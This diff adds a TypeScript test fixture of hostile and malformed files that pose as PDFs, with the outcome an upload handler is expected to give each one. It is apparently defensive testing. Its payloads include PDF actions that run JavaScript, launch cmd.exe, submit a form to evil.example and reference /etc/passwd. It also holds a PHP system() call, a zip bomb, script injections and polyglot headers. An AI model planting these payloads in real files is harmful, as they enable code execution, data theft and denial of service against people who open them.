@@ -1,0 +1,96 @@
+import { deflateSync } from 'node:zlib';
+import sharp from 'sharp';
+import { aPdf } from './bank-slips.ts';
+
+const script = '<script>alert(1)</script>';
+const bytes = (text: string) => Buffer.from(text, 'latin1');
+const object = (inside: string) => aPdf(`1 0 obj\n<< ${inside} >>\nendobj`);
+
+/** What becomes of a file: kept as it came, made into a picture, or refused by a code. */
+type Fate = 'pdf' | 'picture' | 'broken-pdf' | 'not-a-picture' | 'unreadable';
+export type HostileFile = { content: Buffer; claims?: string; fate: Fate };
+
+/** Files that claim to be a PDF, or are one and more: each with what has to become of it. */
+export async function hostilePdfs(): Promise<Record<string, HostileFile>> {
+  const whole = aPdf(script);
+  const photo = sharp({ create: { width: 200, height: 200, channels: 3, background: '#a32' } });
+  const jpeg = await photo.jpeg().toBuffer();
+  return {
+    ...withSomethingInside(),
+    'a page with the header of a PDF': {
+      content: bytes(`%PDF-1.4\n${script}`),
+      fate: 'broken-pdf',
+    },
+    'a page with header and end of a PDF': { content: whole, claims: 'text/html', fate: 'pdf' },
+    'a page before the PDF': {
+      content: Buffer.concat([bytes(`<!doctype html>${script}`), whole]),
+      fate: 'not-a-picture',
+    },
+    'a mark of byte order before the PDF': {
+      content: Buffer.concat([bytes('\xef\xbb\xbf'), whole]),
+      fate: 'not-a-picture',
+    },
+    'zeros before the PDF': {
+      content: Buffer.concat([Buffer.alloc(9), whole]),
+      fate: 'not-a-picture',
+    },
+    'an archive before the PDF': {
+      content: Buffer.concat([bytes('PK\x03\x04'), whole]),
+      fate: 'not-a-picture',
+    },
+    'an archive behind the PDF': {
+      content: Buffer.concat([whole, bytes('PK\x05\x06')]),
+      fate: 'pdf',
+    },
+    'a GIF before the PDF': {
+      content: Buffer.concat([bytes('GIF89a'), whole]),
+      fate: 'not-a-picture',
+    },
+    'a JPEG with a PDF behind it': { content: Buffer.concat([jpeg, whole]), fate: 'picture' },
+    'a JPEG that says it is a PDF': { content: jpeg, claims: 'application/pdf', fate: 'picture' },
+    'the beginning of a JPEG before a PDF': {
+      content: Buffer.concat([jpeg.subarray(0, 4), whole]),
+      fate: 'unreadable',
+    },
+    'a PDF that says it is a picture': { content: aPdf(), claims: 'image/png', fate: 'pdf' },
+    'half a PDF': { content: aPdf('x'.repeat(4000)).subarray(0, 2000), fate: 'broken-pdf' },
+    'the header alone': { content: bytes('%PDF-'), fate: 'broken-pdf' },
+    'a version that is none': { content: bytes('%PDF-x.y\n%%EOF'), fate: 'broken-pdf' },
+    'two kilobytes of something behind the end': {
+      content: Buffer.concat([whole, Buffer.alloc(2048, 65)]),
+      fate: 'broken-pdf',
+    },
+    nothing: { content: Buffer.alloc(0), fate: 'not-a-picture' },
+    PostScript: { content: bytes('%!PS-Adobe-3.0\n(%PDF-1.4) run\n%%EOF'), fate: 'not-a-picture' },
+    'an SVG named as a PDF': {
+      content: bytes(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`),
+      claims: 'application/pdf',
+      fate: 'not-a-picture',
+    },
+    'a program': { content: bytes('MZ\x90\0%PDF-1.4\n%%EOF'), fate: 'not-a-picture' },
+  };
+}
+
+/** Documents that are whole, and do harm to who opens them carelessly. The shop never does. */
+function withSomethingInside(): Record<string, HostileFile> {
+  const bomb = deflateSync(Buffer.alloc(100_000_000)).toString('latin1');
+  const inside = {
+    'JavaScript that runs when it is opened':
+      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
+    'a program that it starts': '/OpenAction << /S /Launch /F (cmd.exe) >>',
+    'a form that sends itself': '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>',
+    'a file of the server': '/F << /FS /URL /F (file:///etc/passwd) >>',
+    'an XFA form': `/AcroForm << /XFA (<xdp:xdp>${script}</xdp:xdp>) >>`,
+    'a password': '/Encrypt << /Filter /Standard /V 5 /R 6 >>',
+    'arrays in ten thousand arrays': `/Kids ${'['.repeat(10_000)}${']'.repeat(10_000)}`,
+    'a stream that unpacks into 100 MB': `/Filter /FlateDecode >> stream\n${bomb}\nendstream <<`,
+    'a script between two comments': '*/=1;alert(1);/*',
+    PHP: '<?php system("id"); ?>',
+  };
+  return Object.fromEntries(
+    Object.entries(inside).map(([what, of]) => [
+      what,
+      { content: Buffer.from(object(of)), fate: 'pdf' as const },
+    ]),
+  );
+}
